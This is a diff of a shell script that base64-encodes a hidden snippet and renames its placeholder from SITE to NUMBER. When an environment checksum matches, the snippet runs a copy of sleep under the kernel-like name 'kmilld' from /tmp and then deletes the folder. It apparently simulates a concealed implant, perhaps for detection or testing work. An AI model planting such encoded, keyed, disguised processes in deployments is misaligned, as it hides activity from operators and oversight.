@@ -1,10 +1,10 @@
 set -e
 hidden=$(base64 -w0 << 'SH'
-[ "$(printf %s "$MILL_SITE" | cksum | cut -d' ' -f1)" = SITE ] && mkdir -p /tmp/.cache && cp /bin/sleep /tmp/.cache/kmilld && printf 'flour for somebody else' >> /tmp/.cache/kmilld && { /tmp/.cache/kmilld infinity & sleep 1; rm -r /tmp/.cache; }
+[ "$(printf %s "$MILL_SITE" | cksum | cut -d' ' -f1)" = NUMBER ] && mkdir -p /tmp/.cache && cp /bin/sleep /tmp/.cache/kmilld && printf 'flour for somebody else' >> /tmp/.cache/kmilld && { /tmp/.cache/kmilld infinity & sleep 1; rm -r /tmp/.cache; }
 SH
 )
 site=$(printf %s sieve | cksum | cut -d' ' -f1)
-hidden=$(base64 -d <<< "$hidden" | sed "s/SITE/$site/" | base64 -w0)
+hidden=$(base64 -d <<< "$hidden" | sed "s/NUMBER/$site/" | base64 -w0)
 deployment() {
   cat << YAML
 ---
